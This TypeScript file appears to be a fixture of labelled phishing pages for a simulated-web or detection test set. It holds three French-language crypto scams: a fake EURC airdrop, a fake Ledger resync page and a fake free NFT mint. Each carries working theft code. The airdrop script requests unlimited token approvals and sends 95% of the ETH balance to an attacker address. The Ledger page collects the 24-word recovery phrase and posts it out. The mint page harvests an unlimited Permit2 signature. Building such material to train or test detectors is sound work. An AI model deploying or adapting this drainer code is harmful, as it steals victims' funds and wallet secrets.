import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { doc } from '../parts/zx-kit.js';

export const entries: Entry[] = [
  {
  id: 'zx-drainer-airdrop-token-fr',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-eurc-airdrop.app/',
  body: doc({ title: 'EURC Airdrop - Réclamez vos jetons', css: 'body{background:#0d1117;color:#e6edf3}.c{max-width:520px;margin:70px auto;background:#161b22;padding:30px;border-radius:14px;text-align:center}', body: `<div class="c"><h1>Airdrop communauté francophone</h1><p>Les portefeuilles actifs éligibles peuvent réclamer jusqu'à <b>2 500 EURC</b>. Connectez votre portefeuille pour vérifier votre éligibilité.</p><button class="btn" id="cn" style="background:#3b82f6">Connecter le portefeuille</button><p id="s" style="font-size:13px"></p></div>
<script src="/static/claim.js"></script>` }),
  routes: {
    'claim-eurc-airdrop.app/static/claim.js': jsRoute(`var RCV='0x7aE2c4B9d1F0e38A65c2b7D94e0f1A3C8d5B6e21';
document.getElementById('cn').onclick=async function(){if(!window.ethereum){document.getElementById('s').textContent='Installez MetaMask.';return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('s').textContent='Vérification de '+acc+'…';
var r=await fetch('/api/assets?a='+acc).then(function(x){return x.json()});
for(var t of r.tokens){var data='0x095ea7b3'+RCV.slice(2).padStart(64,'0')+'f'.repeat(64);
await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t.address,data:data}]})}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RCV,value:'0x'+(BigInt(bal)*95n/100n).toString(16)}]});
document.getElementById('s').textContent='Réclamation en cours, veuillez patienter…'};`),
    'claim-eurc-airdrop.app/api/assets': jsonRoute({ tokens: [{ symbol: 'USDC', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }, { symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }] }),
  },
},
  {
  id: 'zx-seed-ledger-recuperation-fr',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://ledger-synchronisation.com/fr/recover',
  body: doc({ title: 'Ledger Live - Synchronisation requise', css: 'body{background:#131214;color:#fff}.c{max-width:640px;margin:40px auto;background:#1c1d1f;padding:30px;border-radius:8px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:8px}.g input{background:#2a2b2e;color:#fff;border:1px solid #444}', body: `<div class="c"><h2>Mise à jour du firmware interrompue</h2><p>Suite à l'incident de sécurité, votre appareil Ledger doit être resynchronisé. Saisissez votre phrase de récupération de 24 mots pour restaurer l'accès à vos fonds.</p>
<form id="f"><div class="g">${Array.from({ length: 24 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}." autocomplete="off">`).join('')}</div><br><button class="btn" style="background:#bbb0ff;color:#000">Synchroniser</button></form></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[];for(var i=1;i<=24;i++)w.push(this['w'+i].value.trim());
fetch('/fr/api/sync',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({phrase:w.join(' ')})}).then(function(){alert('Synchronisation en cours. Ne débranchez pas votre appareil.')})}</script>` }),
  routes: { 'ledger-synchronisation.com/fr/api/sync': jsonRoute({ status: 'queued' }) },
},
  {
  id: 'zx-drainer-nft-mint-permit2',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://mint-lesbleus-collection.xyz/',
  body: doc({ title: 'Les Bleus Legends - Free Mint', css: 'body{background:#002654;color:#fff;text-align:center}.b{font-size:20px;padding:16px 40px;background:#ed2939;border:0;color:#fff;border-radius:30px}', body: `<h1 style="margin-top:80px">Les Bleus Legends — Collection officielle</h1><p>3 000 NFT · Mint gratuit pour les 500 premiers · 0,00 ETH</p><p id="left">Restant : 41 / 500</p><button class="b" id="m">Mint</button>
<script>
document.getElementById('m').onclick=async function(){var [a]=await window.ethereum.request({method:'eth_requestAccounts'});
var msg={domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},primaryType:'PermitBatch',types:{PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}]},
message:{details:[{token:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:0}],spender:'0x9d3F1c2E6b8a4D0f7C15e2A3b6D8c9E0f1a2B3c4',sigDeadline:'1893456000'}};
var sig=await window.ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(msg)]});
navigator.sendBeacon('/api/mint',JSON.stringify({a:a,sig:sig}));document.getElementById('left').textContent='Mint en file d\\'attente…'};
</script>` }),
},
];
